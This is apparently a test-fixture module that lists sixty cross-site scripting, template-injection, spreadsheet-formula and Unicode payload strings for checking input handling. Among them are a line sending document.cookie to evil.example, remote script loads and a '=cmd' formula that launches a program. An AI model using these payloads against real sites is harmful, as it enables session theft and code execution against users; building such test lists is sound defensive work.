// Sixty texts that an attacker could put into an account name, a user agent, a
// path or details, hoping that somewhere they are more than text. Each that
// runs would open a dialog, change the title or ask another host.
const scripts = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=https://evil.example/x.js></script>",
  "</script><script>alert(1)</script>",
  "<script>fetch('https://evil.example/'+document.cookie)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "<!--><script>alert(1)</script-->",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
];
const handlers = [
  "<img src=x onerror=alert(1)>",
  "<img/src=`x`onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<div style=width:1000px;height:1000px onmouseover=alert(1)>x</div>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
];
const breakouts = [
  `" onmouseover="alert(1)`,
  `' onmouseover='alert(1)`,
  `"><img src=x onerror=alert(1)>`,
  `'><img src=x onerror=alert(1)>`,
  "`-alert(1)-`",
  "';alert(1);//",
  '";alert(1);//',
  "\\';alert(1);//",
  "-->alert(1)",
  "]]><script>alert(1)</script>",
];
const links = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\u200bscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "//evil.example/x",
  "https://evil.example/",
  "<a href=javascript:alert(1)>click</a>",
  "<form action=https://evil.example><button>x</button></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<base href=https://evil.example/>",
];
const templates = [
  "{{7*7}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it stands
  "${alert(1)}",
  "#{7*7}",
  "<%= 7*7 %>",
  "{{constructor.constructor('alert(1)')()}}",
];
const formulas = ["=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("https://evil.example")'];
const encodings = ["\u202Eecila", "A\u0301\u0301\u0301\u0301", "&lt;script&gt;alert(1)&lt;/script&gt;"];

export const payloads = [
  ...scripts,
  ...handlers,
  ...breakouts,
  ...links,
  ...templates,
  ...formulas,
  ...encodings,
];
if (payloads.length !== 60) throw new Error(`there are ${payloads.length} payloads, not 60`);
